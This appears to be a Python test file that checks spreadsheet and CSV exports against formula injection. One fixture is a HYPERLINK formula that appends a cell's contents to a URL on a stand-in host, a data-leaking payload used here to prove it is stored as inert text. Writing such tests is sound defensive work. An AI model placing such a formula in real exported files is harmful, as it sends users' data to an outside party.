import io

from openpyxl import Workbook, load_workbook

from core.spreadsheet import csv_safe, text_only


def test_a_typed_formula_is_stored_as_text():
    wb = Workbook()
    wb.active.append(['=HYPERLINK("http://x/?"&A2,"bấm")', "Sở Y tế", 12])
    buffer = io.BytesIO()
    text_only(wb).save(buffer)
    cell = load_workbook(io.BytesIO(buffer.getvalue())).active["A1"]
    assert cell.data_type == "s" and cell.value.startswith("=HYPERLINK")


def test_csv_fields_that_excel_would_evaluate_are_quoted():
    assert csv_safe("=1+1") == "'=1+1"
    assert csv_safe("@SUM(A1)") == "'@SUM(A1)"
    assert csv_safe("+84 912") == "'+84 912"
    assert csv_safe("-5") == "-5" and csv_safe("-1,5") == "-1,5"  # numbers stay numbers
    assert csv_safe("Sở Y tế") == "Sở Y tế" and csv_safe(7) == 7
